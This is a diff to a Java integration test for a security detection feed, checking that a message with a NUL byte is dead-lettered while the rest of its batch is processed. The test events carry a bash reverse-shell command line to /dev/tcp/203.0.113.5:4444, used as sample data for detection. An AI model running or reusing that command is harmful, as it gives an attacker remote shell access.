@@ -56,7 +56,7 @@ class PoisonFeedMessageTest {
         String poisonTopic = EventFeed.topic("vigil-hub");
         // The poison message shares its feed batch with good ones: only it is parked, they are detected on.
         ingest.publish(poisonTopic, JSON.writeValueAsBytes(FeedBatch.of(message("beside-poison-1", UUID.randomUUID().toString()),
-                message("poison-1", "bad\u0000event-id"), message("beside-poison-2", UUID.randomUUID().toString()))));
+                poison("poison-1", "bad\u0000event-id"), message("beside-poison-2", UUID.randomUUID().toString()))));
         for (int i = 0; i < 20; i++) {
             ingest.publish(poisonTopic, JSON.writeValueAsBytes(FeedBatch.of(message("after-poison-" + i, UUID.randomUUID().toString()))));
         }
@@ -70,7 +70,7 @@ class PoisonFeedMessageTest {
         Map<String, Object> parked = TestDatabase.query("SELECT id, consumer, reason, attempts, payload FROM detection.dead_letter WHERE topic = ?",
                 poisonTopic).get(0);
         assertThat(parked.get("consumer")).isEqualTo("detection-feed");
-        assertThat((String) parked.get("reason")).contains("22021");
+        assertThat((String) parked.get("reason")).containsAnyOf("22021", "22P05");
         assertThat((Integer) parked.get("attempts")).isGreaterThanOrEqualTo(5);
         assertThat(JSON.readTree((byte[]) parked.get("payload")).path("messages")).singleElement()
                 .satisfies(alone -> assertThat(alone.path("deviceId").asText()).isEqualTo("poison-1"));
@@ -97,9 +97,18 @@ class PoisonFeedMessageTest {
         given().auth().oauth2(TestTokens.admin()).delete("/admin/dead-letters/" + again).then().statusCode(404);
     }
 
+    /** PostgreSQL refuses NUL in text and jsonb: the alert on this reverse shell can never be stored. */
+    private static FeedMessage poison(String device, String eventId) {
+        return message(device, eventId, "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1 \u0000");
+    }
+
     private static FeedMessage message(String device, String eventId) {
+        return message(device, eventId, "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1");
+    }
+
+    private static FeedMessage message(String device, String eventId, String commandLine) {
         Instant at = Instant.now().minusSeconds(10);
-        ObjectNode item = JSON.createObjectNode().put("Executable", "/bin/bash").put("CommandLine", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1")
+        ObjectNode item = JSON.createObjectNode().put("Executable", "/bin/bash").put("CommandLine", commandLine)
                 .put("ProcessId", 4000).put("ParentProcessId", 1).put("UserId", "0").put("UserName", "root");
         FeedEvent event = new FeedEvent(eventId, "ProcessCreate", "Triggered", "Security", false, at, at.toString(), List.of(item));
         return new FeedMessage(TestHub.RESOURCE_ID, device, null, "agent", "1.0", Instant.now(), List.of(event));
